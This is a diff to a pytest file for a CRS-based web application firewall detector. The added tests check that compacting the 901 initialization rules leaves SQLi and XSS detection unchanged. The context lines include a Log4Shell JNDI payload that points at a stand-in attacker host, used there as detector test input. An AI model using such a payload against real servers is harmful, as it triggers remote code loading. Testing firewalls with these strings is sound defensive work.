@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
-from lamina.gateway.waf.detect import Attack, CrsDetector
+from pathlib import Path
+
+import pytest
+
+from lamina.gateway.waf.detect import Attack, CrsDetector, compact_initialization
 
 
 def test_detection_names_crs_rules_and_benign_input_passes() -> None:
@@ -44,3 +48,40 @@ def test_java_rules_catch_log4shell() -> None:
     java = CrsDetector(Attack.JAVA, 1)
     assert java.detect([b"${jndi:ldap://attacker.example/a}"]) is not None
     assert java.detect([b"${project.version}"]) is None
+
+
+CORPUS = Path(__file__).resolve().parents[3] / "fixtures" / "waf"
+
+
+def test_folded_initialization_sets_the_defaults_in_one_action() -> None:
+    preset = frozenset({"blocking_paranoia_level", "crs_setup_version"})
+    text = compact_initialization(preset)
+    folded = [line for line in text.splitlines() if line.startswith("SecAction")]
+    assert len(folded) == 1
+    assert "setvar:'tx.inbound_anomaly_score_threshold=5'" in folded[0]
+    assert "setvar:'tx.anomaly_score=0'" in folded[0]  # 901200's resets are folded too
+    assert "tx.blocking_paranoia_level=1" not in folded[0]  # the setup's value stays
+    assert "&TX:inbound_anomaly_score_threshold" not in text
+    # The rules that depend on the request, or deny, are kept as written.
+    for kept in ("id:901001", "id:901340", "id:901400", "id:901500"):
+        assert kept in text
+
+
+@pytest.mark.parametrize("attack", [Attack.SQLI, Attack.XSS])
+@pytest.mark.parametrize("paranoia", [1, 2])
+def test_folded_initialization_decides_as_crs_901_does(attack: Attack, paranoia: int) -> None:
+    """Every corpus string, raw: the same CRS rules fire with 901 folded or as written."""
+    folded = CrsDetector(attack, paranoia)
+    reference = CrsDetector(attack, paranoia, fold_defaults=False)
+    lines = [
+        line.encode()
+        for name in ("sqli.txt", "xss.txt", "benign.txt")
+        for line in (CORPUS / name).read_text(encoding="utf-8").splitlines()
+        if line.strip()
+    ][::3]  # a third of each corpus keeps the test quick
+    found = 0
+    for line in lines:
+        expected = reference.detect([line])
+        assert folded.detect([line]) == expected, line
+        found += expected is not None
+    assert 0 < found < len(lines)
